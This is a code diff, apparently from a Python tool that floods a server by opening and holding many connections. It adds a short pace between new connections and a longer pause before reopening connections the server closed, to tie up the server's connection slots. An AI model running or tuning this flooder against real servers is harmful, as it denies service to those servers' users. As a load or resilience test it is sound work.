@@ -25,8 +25,11 @@ INITIALIZE = json.dumps(
         },
     }
 )
-PAUSE_SECONDS = 1.0
-"""How long the flood waits before it opens a connection anew: more often, it would only take the processor away."""
+PACE_SECONDS = 0.01
+"""How long the flood waits between two new connections: it takes places, and leaves the processor to the server."""
+
+PAUSE_SECONDS = 5.0
+"""How long the flood waits before it opens a connection anew that the server has closed."""
 
 
 def opening(kind: str, host: str, headers: list[str]) -> str:
@@ -79,7 +82,10 @@ async def hold(kind: str, host: str, port: int, headers: list[str], tried: async
 async def flood(kind: str, host: str, port: int, count: int, headers: list[str]) -> None:
     """Flood until standard input ends."""
     tried = asyncio.Semaphore(0)
-    holders = [asyncio.create_task(hold(kind, host, port, headers, tried)) for _ in range(count)]
+    holders = []
+    for _ in range(count):
+        holders.append(asyncio.create_task(hold(kind, host, port, headers, tried)))
+        await asyncio.sleep(PACE_SECONDS)
     for _ in holders:
         await tried.acquire()
     sys.stdout.write("flooding\n")
